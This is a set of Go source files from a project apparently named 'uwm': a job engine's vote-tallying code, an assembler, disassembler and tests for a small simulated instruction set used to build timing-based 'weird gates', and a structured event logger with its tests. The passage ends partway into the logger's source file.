		// Stop early once no candidate can still reach the vote
		// threshold with the attempts that remain.
		best := 0
		for _, n := range votes {
			if n > best {
				best = n
			}
		}
		if best+(policy.Attempts-attempt-1) < policy.Vote {
			break
		}
	}

	if len(ballots) == 0 {
		if lastErr == nil {
			lastErr = errors.New("engine: no attempt produced a result")
		}
		return nil, sawPanic, lastErr
	}
	// No quorum: the plurality winner stands, ties broken by first
	// appearance (attempt order is deterministic, so this is too).
	winner := ballots[0]
	for _, key := range ballots[1:] {
		if votes[key] > votes[winner] {
			winner = key
		}
	}
	res.Value = json.RawMessage(winner)
	res.Votes = votes[winner]
	res.Quorum = false
	res.Ballots = len(ballots)
	e.countDisagreements(typeLabel, ballots)
	return res, sawPanic, nil
}

// countDisagreements records how many conflicting result candidates a
// job's attempts produced beyond the first — per job type, the signal
// that a gate library's error rate is eating the vote budget.
func (e *Engine) countDisagreements(typeLabel metrics.Label, ballots []string) {
	if len(ballots) <= 1 {
		return
	}
	e.cfg.Metrics.Counter(MetricDisagreements,
		"conflicting result candidates beyond the first, per voted job", typeLabel).
		Add(uint64(len(ballots) - 1))
}

// sleepCtx sleeps for d or until ctx is done.
func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
