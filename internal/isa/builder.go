package isa

import (
	"fmt"

	"uwm/internal/mem"
)

// Builder assembles a Program in two passes: emission records
// instructions and label definitions; Build resolves branch targets and
// CLFL code addresses. Alignment helpers let gate builders place
// speculative bodies on their own cache lines — the code-alignment
// management the paper's skelly framework performs (§6.2).
type Builder struct {
	base   mem.Addr
	code   []Inst
	labels map[string]int
	errs   []error
}

// NewBuilder starts a program at the given code base address. The base
// should be line-aligned; gate code relies on deterministic line
// boundaries.
func NewBuilder(base mem.Addr) *Builder {
	return &Builder{base: base, labels: make(map[string]int)}
}

// addr returns the code address of the next emitted instruction.
func (b *Builder) addr() mem.Addr {
	return b.base + mem.Addr(len(b.code)*InstBytes)
}

// emit appends an instruction, stamping its code address.
func (b *Builder) emit(i Inst) *Builder {
	i.Addr = b.addr()
	b.code = append(b.code, i)
	return b
}

// Label defines a label at the current position. Labels must be unique.
func (b *Builder) Label(name string) *Builder {
	if _, dup := b.labels[name]; dup {
		b.errs = append(b.errs, fmt.Errorf("isa: duplicate label %q", name))
		return b
	}
	b.labels[name] = len(b.code)
	return b
}

// Align pads with NOPs until the next instruction address is a multiple
// of n bytes (n must be a power of two).
func (b *Builder) Align(n uint64) *Builder {
	if n == 0 || n&(n-1) != 0 {
		b.errs = append(b.errs, fmt.Errorf("isa: bad alignment %d", n))
		return b
	}
	for uint64(b.addr())%n != 0 {
		b.emit(Inst{Op: NOP})
	}
	return b
}

// AlignLine pads to the next cache-line boundary.
func (b *Builder) AlignLine() *Builder { return b.Align(mem.LineSize) }

// PadTo pads with NOPs until the next instruction address equals addr,
// used for deliberate long-distance placement (predictor/BTB aliasing).
func (b *Builder) PadTo(addr mem.Addr) *Builder {
	if addr < b.addr() || (addr-b.addr())%InstBytes != 0 {
		b.errs = append(b.errs, fmt.Errorf("isa: cannot pad from %#x to %#x", uint64(b.addr()), uint64(addr)))
		return b
	}
	for b.addr() < addr {
		b.emit(Inst{Op: NOP})
	}
	return b
}

// Nop emits a no-op.
func (b *Builder) Nop() *Builder { return b.emit(Inst{Op: NOP}) }

// Halt stops execution of the current entry.
func (b *Builder) Halt() *Builder { return b.emit(Inst{Op: HALT}) }

// MovI loads an immediate into dst.
func (b *Builder) MovI(dst Reg, imm int64) *Builder {
	return b.emit(Inst{Op: MOVI, Dst: dst, Imm: imm})
}

// Mov copies src into dst.
func (b *Builder) Mov(dst, src Reg) *Builder {
	return b.emit(Inst{Op: MOV, Dst: dst, Src1: src})
}

// Load emits dst ← mem64[sym+disp].
func (b *Builder) Load(dst Reg, sym mem.Symbol, disp int64) *Builder {
	return b.emit(Inst{Op: LOAD, Dst: dst, Sym: sym.Name, SymAddr: sym.Addr, Imm: disp})
}

// LoadR emits dst ← mem64[src+disp] (register-indirect; the pointer-
// chasing form the TSX assignment gates are built from).
func (b *Builder) LoadR(dst, src Reg, disp int64) *Builder {
	return b.emit(Inst{Op: LOADR, Dst: dst, Src1: src, Imm: disp})
}

// AddM emits dst ← dst + mem64[sym+disp] (add with memory operand; the
// dependency-grouping form of the paper's §4 TSX AND chain).
func (b *Builder) AddM(dst Reg, sym mem.Symbol, disp int64) *Builder {
	return b.emit(Inst{Op: ADDM, Dst: dst, Sym: sym.Name, SymAddr: sym.Addr, Imm: disp})
}

// Store emits mem64[sym+disp] ← src.
func (b *Builder) Store(sym mem.Symbol, disp int64, src Reg) *Builder {
	return b.emit(Inst{Op: STORE, Src1: src, Sym: sym.Name, SymAddr: sym.Addr, Imm: disp})
}

// StoreR emits mem64[addrReg+disp] ← src.
func (b *Builder) StoreR(addrReg Reg, disp int64, src Reg) *Builder {
	return b.emit(Inst{Op: STORR, Src1: addrReg, Src2: src, Imm: disp})
}

// Add emits dst ← s1 + s2.
func (b *Builder) Add(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: ADD, Dst: dst, Src1: s1, Src2: s2})
}

// AddI emits dst ← s1 + imm.
func (b *Builder) AddI(dst, s1 Reg, imm int64) *Builder {
	return b.emit(Inst{Op: ADDI, Dst: dst, Src1: s1, Imm: imm})
}

// Sub emits dst ← s1 - s2.
func (b *Builder) Sub(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: SUB, Dst: dst, Src1: s1, Src2: s2})
}

// BoolAnd emits the architectural AND instruction. Weird gates must not
// use it on weird data; it exists for harness code and for the negative
// controls in tests.
func (b *Builder) BoolAnd(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: AND, Dst: dst, Src1: s1, Src2: s2})
}

// BoolOr emits the architectural OR instruction.
func (b *Builder) BoolOr(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: OR, Dst: dst, Src1: s1, Src2: s2})
}

// BoolXor emits the architectural XOR instruction.
func (b *Builder) BoolXor(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: XOR, Dst: dst, Src1: s1, Src2: s2})
}

// Shl emits dst ← s1 << imm.
func (b *Builder) Shl(dst, s1 Reg, imm int64) *Builder {
	return b.emit(Inst{Op: SHL, Dst: dst, Src1: s1, Imm: imm})
}

// Shr emits dst ← s1 >> imm.
func (b *Builder) Shr(dst, s1 Reg, imm int64) *Builder {
	return b.emit(Inst{Op: SHR, Dst: dst, Src1: s1, Imm: imm})
}

// Mul emits dst ← s1 * s2 on the (contention-visible) multiply unit.
func (b *Builder) Mul(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: MUL, Dst: dst, Src1: s1, Src2: s2})
}

// Div emits dst ← s1 / s2; s2 == 0 faults (aborting a TSX region).
func (b *Builder) Div(dst, s1, s2 Reg) *Builder {
	return b.emit(Inst{Op: DIV, Dst: dst, Src1: s1, Src2: s2})
}

// Clflush emits a data-cache flush of the line containing sym+disp.
func (b *Builder) Clflush(sym mem.Symbol, disp int64) *Builder {
	return b.emit(Inst{Op: CLF, Sym: sym.Name, SymAddr: sym.Addr, Imm: disp})
}

// ClflushCode emits a flush of the code line containing the label.
func (b *Builder) ClflushCode(label string) *Builder {
	return b.emit(Inst{Op: CLFL, Target: label})
}

// Brz branches to label when cond == 0.
func (b *Builder) Brz(cond Reg, label string) *Builder {
	return b.emit(Inst{Op: BRZ, Src1: cond, Target: label})
}

// Brnz branches to label when cond != 0.
func (b *Builder) Brnz(cond Reg, label string) *Builder {
	return b.emit(Inst{Op: BRNZ, Src1: cond, Target: label})
}

// Jmp jumps unconditionally to label.
func (b *Builder) Jmp(label string) *Builder {
	return b.emit(Inst{Op: JMP, Target: label})
}

// Call jumps to label, leaving the return address in the link register
// R15 and a prediction on the return stack.
func (b *Builder) Call(label string) *Builder {
	return b.emit(Inst{Op: CALL, Dst: R15, Target: label})
}

// Ret returns to the address in the link register R15, predicted by
// the return stack buffer.
func (b *Builder) Ret() *Builder {
	return b.emit(Inst{Op: RET, Src1: R15})
}

// Rdtsc emits a serializing timestamp read into dst.
func (b *Builder) Rdtsc(dst Reg) *Builder {
	return b.emit(Inst{Op: RDTSC, Dst: dst})
}

// Fence emits a full serialization barrier.
func (b *Builder) Fence() *Builder { return b.emit(Inst{Op: FENCE}) }

// XBegin opens a transactional region whose abort handler is at label.
func (b *Builder) XBegin(abortLabel string) *Builder {
	return b.emit(Inst{Op: XBEGIN, Target: abortLabel})
}

// XEnd commits the current transactional region.
func (b *Builder) XEnd() *Builder { return b.emit(Inst{Op: XEND}) }

// XAbort explicitly aborts the current transactional region.
func (b *Builder) XAbort() *Builder { return b.emit(Inst{Op: XABORT}) }

// Build resolves labels and returns the program. It fails on duplicate
// labels, undefined targets, or an empty program.
func (b *Builder) Build() (*Program, error) {
	if len(b.errs) > 0 {
		return nil, b.errs[0]
	}
	if len(b.code) == 0 {
		return nil, fmt.Errorf("isa: empty program")
	}
	code := make([]Inst, len(b.code))
	copy(code, b.code)
	for i := range code {
		if code[i].Target == "" {
			code[i].TargetIdx = -1
			continue
		}
		idx, ok := b.labels[code[i].Target]
		if !ok {
			return nil, fmt.Errorf("isa: undefined label %q at %#x", code[i].Target, uint64(code[i].Addr))
		}
		if idx >= len(code) {
			return nil, fmt.Errorf("isa: label %q points past program end", code[i].Target)
		}
		code[i].TargetIdx = idx
	}
	labels := make(map[string]int, len(b.labels))
	for k, v := range b.labels {
		labels[k] = v
	}
	return &Program{Base: b.base, Code: code, labels: labels}, nil
}

// MustBuild is Build panicking on error, for statically correct builders.
func (b *Builder) MustBuild() *Program {
	p, err := b.Build()
	if err != nil {
		panic(err)
	}
	return p
}
