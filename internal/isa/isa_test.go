package isa

import (
	"strings"
	"testing"

	"uwm/internal/mem"
)

func sym(name string, addr mem.Addr) mem.Symbol {
	return mem.Symbol{Name: name, Addr: addr, Size: mem.LineSize}
}

func TestBuilderBasicProgram(t *testing.T) {
	b := NewBuilder(0x1000)
	b.Label("start").
		MovI(R1, 7).
		Load(R2, sym("x", 0x9000), 0).
		Add(R3, R1, R2).
		Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Code) != 4 {
		t.Fatalf("len = %d", len(p.Code))
	}
	if p.Code[0].Addr != 0x1000 || p.Code[3].Addr != 0x1000+3*InstBytes {
		t.Error("instruction addresses wrong")
	}
	if idx := p.MustEntry("start"); idx != 0 {
		t.Errorf("entry = %d", idx)
	}
	if p.End() != 0x1000+4*InstBytes {
		t.Errorf("End = %#x", uint64(p.End()))
	}
}

func TestLabelResolution(t *testing.T) {
	b := NewBuilder(0)
	b.Label("a").
		Brz(R1, "b").
		Jmp("a")
	b.Label("b").Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if p.Code[0].TargetIdx != 2 {
		t.Errorf("brz target = %d", p.Code[0].TargetIdx)
	}
	if p.Code[1].TargetIdx != 0 {
		t.Errorf("jmp target = %d", p.Code[1].TargetIdx)
	}
	if addr, err := p.LabelAddr("b"); err != nil || addr != 2*InstBytes {
		t.Errorf("LabelAddr = %#x, %v", uint64(addr), err)
	}
}

func TestUndefinedLabelFails(t *testing.T) {
	b := NewBuilder(0)
	b.Jmp("nowhere").Halt()
	if _, err := b.Build(); err == nil {
		t.Error("undefined label accepted")
	}
}

func TestDuplicateLabelFails(t *testing.T) {
	b := NewBuilder(0)
	b.Label("x").Nop().Label("x").Halt()
	if _, err := b.Build(); err == nil {
		t.Error("duplicate label accepted")
	}
}

func TestEmptyProgramFails(t *testing.T) {
	if _, err := NewBuilder(0).Build(); err == nil {
		t.Error("empty program accepted")
	}
}

func TestAlignment(t *testing.T) {
	b := NewBuilder(0x40) // line-aligned base
	b.Label("e").Nop().Nop().Nop()
	b.AlignLine()
	b.Label("body").Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	addr, _ := p.LabelAddr("body")
	if uint64(addr)%mem.LineSize != 0 {
		t.Errorf("body at %#x, not line-aligned", uint64(addr))
	}
	// The branchless padding must be NOPs.
	for i := 3; i < p.MustEntry("body"); i++ {
		if p.Code[i].Op != NOP {
			t.Errorf("padding inst %d is %v", i, p.Code[i].Op)
		}
	}
}

func TestAlignAlreadyAligned(t *testing.T) {
	b := NewBuilder(0x80)
	b.Label("e")
	b.AlignLine() // no-op: already aligned
	b.Halt()
	p := b.MustBuild()
	if len(p.Code) != 1 {
		t.Errorf("alignment emitted %d instructions on an aligned boundary", len(p.Code)-1)
	}
}

func TestPadTo(t *testing.T) {
	b := NewBuilder(0x100)
	b.Label("e").Nop()
	b.PadTo(0x100 + 16*InstBytes)
	b.Label("far").Halt()
	p := b.MustBuild()
	if addr, _ := p.LabelAddr("far"); addr != 0x100+16*InstBytes {
		t.Errorf("far at %#x", uint64(addr))
	}
}

func TestPadToBackwardFails(t *testing.T) {
	b := NewBuilder(0x100)
	b.Nop().Nop()
	b.PadTo(0x100) // behind the cursor
	b.Halt()
	if _, err := b.Build(); err == nil {
		t.Error("backward PadTo accepted")
	}
}

func TestDisassembly(t *testing.T) {
	b := NewBuilder(0)
	x := sym("x", 0x9000)
	b.Label("main").
		MovI(R1, 42).
		Load(R2, x, 8).
		LoadR(R3, R2, 16).
		AddM(R3, x, 0).
		Store(x, 0, R3).
		StoreR(R2, 0, R3).
		BoolXor(R4, R1, R2).
		Shl(R5, R4, 3).
		Mul(R6, R5, R1).
		Div(R7, R6, R1).
		Clflush(x, 0).
		ClflushCode("main").
		Brz(R1, "main").
		Rdtsc(R8).
		Fence().
		XBegin("main").
		XEnd().
		XAbort().
		Halt()
	p := b.MustBuild()
	d := p.Disassemble()
	for _, want := range []string{
		"main:", "movi r1, 42", "load r2, [x+8]", "loadr r3, [r2+16]",
		"addm r3, [x+0]", "store [x+0], r3", "xor r4, r1, r2",
		"shl r5, r4, 3", "clflush [x+0]", "clflush.i main",
		"brz r1, main", "rdtsc r8", "xbegin main", "xend", "xabort",
	} {
		if !strings.Contains(d, want) {
			t.Errorf("disassembly missing %q", want)
		}
	}
}

func TestUses(t *testing.T) {
	b := NewBuilder(0)
	b.Label("a").MovI(R1, 1)
	b.Label("fire").Load(R2, sym("y", 0x100), 0).Halt()
	b.Label("tail").BoolAnd(R3, R1, R2).Halt()
	p := b.MustBuild()
	fire, tail := p.MustEntry("fire"), p.MustEntry("tail")
	if p.Uses(AND, fire, tail) {
		t.Error("fire section reported an AND it does not contain")
	}
	if !p.Uses(AND, tail, -1) {
		t.Error("tail's AND not found")
	}
	if !p.Uses(LOAD, 0, -1) {
		t.Error("LOAD not found in full scan")
	}
}

func TestEntryErrors(t *testing.T) {
	p := NewBuilder(0).Label("only").Halt().MustBuild()
	if _, err := p.Entry("missing"); err == nil {
		t.Error("Entry for missing label succeeded")
	}
	defer func() {
		if recover() == nil {
			t.Error("MustEntry did not panic")
		}
	}()
	p.MustEntry("missing")
}

func TestLabelsCopy(t *testing.T) {
	p := NewBuilder(0).Label("x").Halt().MustBuild()
	l := p.Labels()
	l["x"] = 99
	if p.MustEntry("x") != 0 {
		t.Error("Labels() exposed internal map")
	}
}

func TestOpAndRegStrings(t *testing.T) {
	if R7.String() != "r7" {
		t.Errorf("reg string = %s", R7)
	}
	if LOAD.String() != "load" || Op(250).String() == "" {
		t.Error("op strings wrong")
	}
	if !((Inst{Op: BRZ}).IsBranch()) || (Inst{Op: JMP}).IsBranch() {
		t.Error("IsBranch wrong")
	}
}
