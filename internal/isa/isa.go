// Package isa defines the small instruction set μWM programs are written
// in, together with a two-pass assembler (Builder) and a disassembler.
//
// The set mirrors the x86 subset the paper's gates need: moves, loads and
// stores (direct, register-indirect and add-with-memory-operand forms),
// plain ALU ops, clflush on data and code, conditional branches,
// rdtscp-style timed reads, integer divide (the TSX abort trigger), and
// the TSX region markers XBEGIN/XEND/XABORT. Weird gates are built as
// programs over this ISA and executed by package cpu; their logic comes
// from timing, not from the ALU ops — a property the test suite checks by
// disassembling gate programs.
package isa

import (
	"fmt"
	"strings"

	"uwm/internal/mem"
)

// Reg names an architectural register R0–R15.
type Reg uint8

// Architectural registers.
const (
	R0 Reg = iota
	R1
	R2
	R3
	R4
	R5
	R6
	R7
	R8
	R9
	R10
	R11
	R12
	R13
	R14
	R15
	// NumRegs is the architectural register count.
	NumRegs = 16
)

// String returns the register's assembly name.
func (r Reg) String() string { return fmt.Sprintf("r%d", uint8(r)) }

// Op is an instruction opcode.
type Op uint8

// Opcodes.
const (
	NOP Op = iota
	HALT
	MOVI  // dst ← imm
	MOV   // dst ← src1
	LOAD  // dst ← mem64[abs+imm]          (data cache access)
	LOADR // dst ← mem64[src1+imm]         (register-indirect, pointer chase)
	ADDM  // dst ← dst + mem64[abs+imm]    (add with memory operand)
	STORE // mem64[abs+imm] ← src1
	STORR // mem64[src1+imm] ← src2
	ADD   // dst ← src1 + src2
	ADDI  // dst ← src1 + imm
	SUB   // dst ← src1 - src2
	AND   // dst ← src1 & src2
	OR    // dst ← src1 | src2
	XOR   // dst ← src1 ^ src2
	SHL   // dst ← src1 << imm
	SHR   // dst ← src1 >> imm
	MUL   // dst ← src1 * src2             (uses the multiply unit; contention-visible)
	DIV   // dst ← src1 / src2             (src2 == 0 faults / aborts a transaction)
	CLF   // clflush data line at abs+imm
	CLFL  // clflush code line containing label target
	BRZ   // if src1 == 0 jump to target   (conditional, direction-predicted)
	BRNZ  // if src1 != 0 jump to target
	JMP   // unconditional jump to target  (BTB-predicted)
	RDTSC // dst ← serializing timestamp (rdtscp-like)
	FENCE // full serialization barrier
	XBEGIN
	XEND
	XABORT
	CALL // link register (R15) ← return address; jump to target
	RET  // jump to src1 (conventionally R15), predicted by the RSB
)

var opNames = map[Op]string{
	NOP: "nop", HALT: "halt", MOVI: "movi", MOV: "mov", LOAD: "load",
	LOADR: "loadr", ADDM: "addm", STORE: "store", STORR: "storr",
	ADD: "add", ADDI: "addi", SUB: "sub", AND: "and", OR: "or", XOR: "xor",
	SHL: "shl", SHR: "shr", MUL: "mul", DIV: "div", CLF: "clflush",
	CLFL: "clflush.i", BRZ: "brz", BRNZ: "brnz", JMP: "jmp",
	RDTSC: "rdtsc", FENCE: "fence", XBEGIN: "xbegin", XEND: "xend",
	XABORT: "xabort", CALL: "call", RET: "ret",
}

// String names the opcode.
func (o Op) String() string {
	if s, ok := opNames[o]; ok {
		return s
	}
	return fmt.Sprintf("op(%d)", uint8(o))
}

// InstBytes is the fixed encoded size of one instruction; it determines
// how many instructions share a cache line (mem.LineSize / InstBytes).
const InstBytes = 4

// Inst is one decoded instruction. Addr and TargetIdx are filled in by
// the assembler.
type Inst struct {
	Op              Op
	Dst, Src1, Src2 Reg
	Imm             int64
	Sym             string   // data symbol name (for disassembly)
	SymAddr         mem.Addr // resolved data address for abs-addressed ops
	Target          string   // label name for control transfers / CLFL
	TargetIdx       int      // resolved instruction index of Target
	Addr            mem.Addr // code address of this instruction
}

// IsBranch reports whether the instruction is a conditional branch.
func (i Inst) IsBranch() bool { return i.Op == BRZ || i.Op == BRNZ }

// String disassembles the instruction.
func (i Inst) String() string {
	sym := i.Sym
	if sym == "" && i.SymAddr != 0 {
		sym = fmt.Sprintf("%#x", uint64(i.SymAddr))
	}
	switch i.Op {
	case NOP, HALT, FENCE, XEND, XABORT:
		return i.Op.String()
	case MOVI:
		return fmt.Sprintf("%s %s, %d", i.Op, i.Dst, i.Imm)
	case MOV:
		return fmt.Sprintf("%s %s, %s", i.Op, i.Dst, i.Src1)
	case LOAD:
		return fmt.Sprintf("%s %s, [%s+%d]", i.Op, i.Dst, sym, i.Imm)
	case LOADR:
		return fmt.Sprintf("%s %s, [%s+%d]", i.Op, i.Dst, i.Src1, i.Imm)
	case ADDM:
		return fmt.Sprintf("%s %s, [%s+%d]", i.Op, i.Dst, sym, i.Imm)
	case STORE:
		return fmt.Sprintf("%s [%s+%d], %s", i.Op, sym, i.Imm, i.Src1)
	case STORR:
		return fmt.Sprintf("%s [%s+%d], %s", i.Op, i.Src1, i.Imm, i.Src2)
	case ADD, SUB, AND, OR, XOR, MUL, DIV:
		return fmt.Sprintf("%s %s, %s, %s", i.Op, i.Dst, i.Src1, i.Src2)
	case ADDI, SHL, SHR:
		return fmt.Sprintf("%s %s, %s, %d", i.Op, i.Dst, i.Src1, i.Imm)
	case CLF:
		return fmt.Sprintf("%s [%s+%d]", i.Op, sym, i.Imm)
	case CLFL:
		return fmt.Sprintf("%s %s", i.Op, i.Target)
	case BRZ, BRNZ:
		return fmt.Sprintf("%s %s, %s", i.Op, i.Src1, i.Target)
	case JMP, CALL:
		return fmt.Sprintf("%s %s", i.Op, i.Target)
	case RET:
		return fmt.Sprintf("%s %s", i.Op, i.Src1)
	case RDTSC:
		return fmt.Sprintf("%s %s", i.Op, i.Dst)
	case XBEGIN:
		return fmt.Sprintf("%s %s", i.Op, i.Target)
	default:
		return i.Op.String()
	}
}

// Program is an assembled instruction sequence with resolved labels.
type Program struct {
	Base   mem.Addr
	Code   []Inst
	labels map[string]int
}

// Entry returns the instruction index of a label.
func (p *Program) Entry(label string) (int, error) {
	idx, ok := p.labels[label]
	if !ok {
		return 0, fmt.Errorf("isa: program has no label %q", label)
	}
	return idx, nil
}

// MustEntry is Entry for labels the caller emitted itself.
func (p *Program) MustEntry(label string) int {
	idx, err := p.Entry(label)
	if err != nil {
		panic(err)
	}
	return idx
}

// LabelAddr returns the code address of a label.
func (p *Program) LabelAddr(label string) (mem.Addr, error) {
	idx, err := p.Entry(label)
	if err != nil {
		return 0, err
	}
	return p.Code[idx].Addr, nil
}

// Labels returns a copy of the label table (name → instruction index).
func (p *Program) Labels() map[string]int {
	cp := make(map[string]int, len(p.labels))
	for k, v := range p.labels {
		cp[k] = v
	}
	return cp
}

// End returns the first code address past the program.
func (p *Program) End() mem.Addr {
	return p.Base + mem.Addr(len(p.Code)*InstBytes)
}

// Disassemble renders the whole program with labels and addresses.
func (p *Program) Disassemble() string {
	byIdx := make(map[int][]string)
	for name, idx := range p.labels {
		byIdx[idx] = append(byIdx[idx], name)
	}
	var sb strings.Builder
	for i, inst := range p.Code {
		for _, l := range byIdx[i] {
			fmt.Fprintf(&sb, "%s:\n", l)
		}
		fmt.Fprintf(&sb, "  %#08x  %s\n", uint64(inst.Addr), inst)
	}
	return sb.String()
}

// Uses reports whether any instruction in [from, to) uses opcode op;
// to < 0 means the end of the program. The obfuscation tests use it to
// prove gate sections contain no architectural boolean instruction.
func (p *Program) Uses(op Op, from, to int) bool {
	if to < 0 || to > len(p.Code) {
		to = len(p.Code)
	}
	for i := from; i < to; i++ {
		if p.Code[i].Op == op {
			return true
		}
	}
	return false
}
