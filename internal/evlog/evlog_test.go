package evlog

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"uwm/internal/metrics"
)

// vclock is a deterministic test clock advancing a fixed step per call.
type vclock struct {
	now  time.Time
	step time.Duration
}

func (c *vclock) Now() time.Time {
	t := c.now
	c.now = c.now.Add(c.step)
	return t
}

func testClock(step time.Duration) *vclock {
	return &vclock{now: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), step: step}
}

func TestNilLoggerIsSafe(t *testing.T) {
	var l *Logger
	l.Emit(Record{Level: Error, Component: "x", Event: "y"})
	if got := l.Recent(); got != nil {
		t.Fatalf("nil logger Recent = %v, want nil", got)
	}
	if err := l.Err(); err != nil {
		t.Fatalf("nil logger Err = %v", err)
	}
}

func TestEmitWritesJSONLAndRing(t *testing.T) {
	var buf bytes.Buffer
	clk := testClock(time.Second)
	l := New(Config{W: &buf, Clock: clk.Now})
	l.Emit(Record{Level: Info, Component: "engine", Event: "job.retry",
		JobID: "job-1", RequestID: "req-1", TraceID: "job-1",
		Fields: Fields{F("reason", "timeout"), F("attempt", "2")}})
	l.Emit(Record{Level: Debug, Component: "engine", Event: "noise"}) // below MinLevel Info

	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 1 {
		t.Fatalf("got %d lines, want 1: %q", len(lines), buf.String())
	}
	var rec Record
	if err := json.Unmarshal([]byte(lines[0]), &rec); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if rec.JobID != "job-1" || rec.RequestID != "req-1" || rec.TraceID != "job-1" {
		t.Fatalf("correlation ids lost: %+v", rec)
	}
	if rec.Fields.Get("reason") != "timeout" || rec.Fields.Get("attempt") != "2" {
		t.Fatalf("fields lost: %+v", rec.Fields)
	}
	if rec.At.IsZero() {
		t.Fatal("record not timestamped")
	}
	recent := l.Recent()
	if len(recent) != 1 || recent[0].Event != "job.retry" {
		t.Fatalf("ring = %+v, want the one kept record", recent)
	}
}

func TestFieldsMarshalOrderStable(t *testing.T) {
	fs := Fields{F("zeta", "1"), F("alpha", "2")}
	b, err := json.Marshal(fs)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(b), `{"zeta":"1","alpha":"2"}`; got != want {
		t.Fatalf("marshal = %s, want %s", got, want)
	}
}

func TestRateLimitSuppresssAndAnnotates(t *testing.T) {
	clk := testClock(0) // frozen clock: no refill
	reg := metrics.NewRegistry()
	l := New(Config{Burst: 3, PerSecond: 1, Clock: clk.Now, Metrics: reg})
	for i := 0; i < 10; i++ {
		l.Emit(Record{Level: Warn, Component: "engine", Event: "flood"})
	}
	recent := l.Recent()
	if len(recent) != 3 {
		t.Fatalf("kept %d records, want burst of 3", len(recent))
	}
	if v, ok := reg.Value(MetricSuppressed); !ok || v != 7 {
		t.Fatalf("suppressed counter = %v (ok=%v), want 7", v, ok)
	}

	// Refill one token by advancing the clock; the next record must pass
	// and carry the suppression count.
	clk.now = clk.now.Add(2 * time.Second)
	l.Emit(Record{Level: Warn, Component: "engine", Event: "flood"})
	recent = l.Recent()
	last := recent[len(recent)-1]
	if last.Suppressed != 7 {
		t.Fatalf("passing record Suppressed = %d, want 7", last.Suppressed)
	}

	// A different (component, event) key has its own bucket.
	l.Emit(Record{Level: Warn, Component: "engine", Event: "other"})
	if got := len(l.Recent()); got != 5 {
		t.Fatalf("ring length = %d, want 5", got)
	}
}

func TestUnlimitedBypassesRateLimit(t *testing.T) {
	clk := testClock(0)
	l := New(Config{Burst: 1, PerSecond: 1, Clock: clk.Now})
	for i := 0; i < 50; i++ {
		l.Emit(Record{Level: Info, Component: "slo", Event: "slo.observe", Unlimited: true})
	}
	if got := len(l.Recent()); got != 50 {
		t.Fatalf("kept %d unlimited records, want all 50", got)
	}
}

func TestRingWrapsOldestFirst(t *testing.T) {
	clk := testClock(time.Second)
	l := New(Config{Ring: 4, PerSecond: -1, Clock: clk.Now})
	for i := 0; i < 7; i++ {
		l.Emit(Record{Level: Info, Component: "c", Event: "e",
			Fields: Fields{F("i", string(rune('0'+i)))}})
	}
	recent := l.Recent()
	if len(recent) != 4 {
		t.Fatalf("ring length = %d, want 4", len(recent))
	}
	for i, r := range recent {
		want := string(rune('0' + 3 + i))
		if got := r.Fields.Get("i"); got != want {
			t.Fatalf("ring[%d] = %s, want %s", i, got, want)
		}
	}
}

func TestDecodeJSONLRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	clk := testClock(time.Second)
	l := New(Config{W: &buf, Clock: clk.Now, PerSecond: -1})
	payload, _ := json.Marshal(map[string]any{"x": 1})
	want := []Record{
		{Level: Info, Component: "slo", Event: "slo.observe", JobID: "job-1", Data: payload, Unlimited: true},
		{Level: Error, Component: "engine", Event: "worker.panic", Msg: "boom"},
	}
	for _, r := range want {
		l.Emit(r)
	}
	got, err := DecodeJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("decoded %d records, want %d", len(got), len(want))
	}
	if got[0].Event != "slo.observe" || string(got[0].Data) != string(payload) {
		t.Fatalf("record 0 mangled: %+v", got[0])
	}
	if got[1].Level != Error || got[1].Msg != "boom" {
		t.Fatalf("record 1 mangled: %+v", got[1])
	}
	if got[0].At.IsZero() || !got[1].At.After(got[0].At) {
		t.Fatalf("timestamps not preserved in order: %v %v", got[0].At, got[1].At)
	}
}

func TestDecodeJSONLBadLine(t *testing.T) {
	_, err := DecodeJSONL(strings.NewReader("{\"level\":\"info\"}\n{broken\n"))
	if err == nil {
		t.Fatal("want error on malformed line")
	}
}

func TestLevelRoundTrip(t *testing.T) {
	for lv := Debug; lv <= Error; lv++ {
		b, err := json.Marshal(lv)
		if err != nil {
			t.Fatal(err)
		}
		var back Level
		if err := json.Unmarshal(b, &back); err != nil {
			t.Fatal(err)
		}
		if back != lv {
			t.Fatalf("level %v round-tripped to %v", lv, back)
		}
	}
	if _, ok := ParseLevel("bogus"); ok {
		t.Fatal("ParseLevel accepted bogus level")
	}
}
