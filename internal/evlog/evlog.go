// Package evlog is the serving stack's structured event log: leveled,
// rate-limited JSONL records in which every entry carries the job id,
// request id and trace id of the work that produced it.
//
// The log exists to close the correlation loop the flight recorder and
// the SLO engine open: an alert names the trace ids that burned the
// budget, the flight recorder holds those traces, and the event log
// holds the retry/disagreement/recalibration/panic boundaries the
// engine crossed on the way there — all three keyed by the same ids.
//
// Records are plain JSON lines, so the recorded stream doubles as a
// replayable input: slo.Replay re-feeds the observation records through
// a fresh SLO engine and reproduces the live alert timeline
// byte-for-byte (the records carry their own timestamps, and the SLO
// engine evaluates only at observation boundaries).
//
// Rate limiting is a per-(component, event) token bucket: bursts pass,
// sustained floods are dropped and counted, and the next record that
// passes carries a "suppressed" field naming how many were dropped
// since the last one — the log never silently loses the *fact* of a
// flood, only its bulk. Records marked Unlimited (observations, alert
// transitions) bypass the limiter: they are the replay substrate and
// must never be dropped.
package evlog

import (
